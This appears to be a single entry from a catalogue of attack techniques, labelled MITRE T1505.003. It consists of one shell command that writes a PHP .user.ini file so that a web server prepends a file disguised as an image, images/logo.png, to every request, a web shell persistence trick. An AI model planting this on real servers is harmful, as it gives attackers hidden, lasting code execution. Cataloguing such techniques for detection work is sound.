# technique: T1505.003
# location: linux.web.user-ini
# source: /var/www/html/.user.ini
echo 'auto_prepend_file = /var/www/html/images/logo.png' > /var/www/html/.user.ini
